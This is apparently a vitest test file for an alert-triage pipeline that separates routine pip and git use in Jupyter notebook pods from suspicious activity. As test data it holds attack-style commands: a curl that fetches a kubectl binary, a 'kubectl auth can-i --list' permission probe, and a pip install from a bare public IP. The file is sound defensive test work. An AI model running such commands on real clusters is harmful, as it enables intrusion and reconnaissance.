/**
 * notebook-session: pip, conda or git started by a notebook server's terminal or kernel in a notebook image is the
 * notebook's user at work — and the traps: a download or a cluster client from the same terminal, pip under a shell the
 * runtime started (a kubectl exec, with no session in the audit log), pip in an image that is no notebook whose parent
 * merely calls itself jupyter-lab, and a pip install from a bare public address.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import type { Pod } from '../../../src/cluster/model.js';
import type { ProcessInfo } from '../../../src/alerts/model.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const N = 'mlp-gpu-1';
const NS = 'kubeflow-user-ana';
const notebook = pod('ana-nb-0', {
  namespace: NS,
  node: N,
  ip: '10.200.3.41',
  owner: { kind: 'StatefulSet', name: 'ana-nb' },
  created: '2027-03-11T08:05:03Z',
  containers: [{ name: 'ana-nb', image: 'docker.io/kubeflownotebookswg/jupyter-pytorch-cuda-full:v1.9.0' }],
});
const app = pod('api-7d9f-x2', {
  namespace: NS,
  node: N,
  ip: '10.200.3.42',
  owner: { kind: 'ReplicaSet', name: 'api-7d9f' },
  created: '2027-03-11T08:05:03Z',
  containers: [{ name: 'api', image: 'registry.example/team/api:1.4.0', command: ['python', '/app/server.py'] }],
});
const index = indexOf([node(N, '10.164.0.21'), owner('StatefulSet', 'ana-nb', NS), owner('ReplicaSet', 'api-7d9f', NS), notebook, app]);

const JUPYTER: ProcessInfo = { name: 'jupyter-lab' };
const TERMINAL: ProcessInfo = { name: 'bash', commandLine: '/bin/bash -l' };
const KERNEL: ProcessInfo = { name: 'python', commandLine: '/opt/conda/bin/python -m ipykernel_launcher -f /home/jovyan/.local/share/jupyter/runtime/kernel-1.json' };
const SHIM: ProcessInfo = { name: 'containerd-shim' };

function run(p: Pod, name: string, commandLine: string, ancestors: ProcessInfo[]) {
  const a = alert({
    host: N,
    time: '2027-03-11T08:21:14.000Z',
    title: 'Launch Package Management Process in Container',
    process: { name, commandLine, user: 'jovyan' },
    ancestors,
    container: { id: containerIdOf(p), pod: p.metadata.name, namespace: NS },
  });
  return triageAlert(a, { index }).verdict;
}

describe('notebook-session', () => {
  it("explains pip in a Jupyter terminal of a notebook image (jupyter-lab → bash -l → pip)", () => {
    const v = run(notebook, 'pip', 'pip install -U transformers==4.46.2 peft==0.13.2', [TERMINAL, JUPYTER]);
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(v.reasons.some((r) => r.rule === 'notebook-session')).toBe(true);
  });
  it('explains %pip from a kernel and git clone from a public source host', () => {
    expect(run(notebook, 'pip', 'pip install -q flash-attn==2.6.3', [KERNEL, JUPYTER]).label).toBe('likely-false-positive');
    expect(run(notebook, 'git', 'git clone https://github.com/huggingface/peft.git', [TERMINAL, JUPYTER]).label).toBe('likely-false-positive');
  });
  it('trap: a download or a cluster client from the same terminal', () => {
    expect(run(notebook, 'curl', 'curl -sLo /home/jovyan/.local/bin/kubectl https://dl.k8s.io/release/v1.30.6/bin/linux/amd64/kubectl', [TERMINAL, JUPYTER]).label).toBe('genuine');
    expect(run(notebook, 'kubectl', 'kubectl auth can-i --list', [TERMINAL, JUPYTER]).label).toBe('genuine');
  });
  it('trap: pip under a shell the runtime started (no exec session) is no notebook work', () => {
    expect(run(notebook, 'pip', 'pip install requests', [TERMINAL, SHIM]).label).toBe('genuine');
  });
  it('trap: an image that is no notebook, whose parent calls itself jupyter-lab', () => {
    expect(run(app, 'pip', 'pip install requests', [TERMINAL, JUPYTER]).label).toBe('genuine');
  });
  it('trap: a package fetched from a bare public address', () => {
    expect(run(notebook, 'pip', 'pip install http://198.51.100.23/torch_helper-1.0-py3-none-any.whl', [TERMINAL, JUPYTER]).label).toBe('genuine');
  });
});
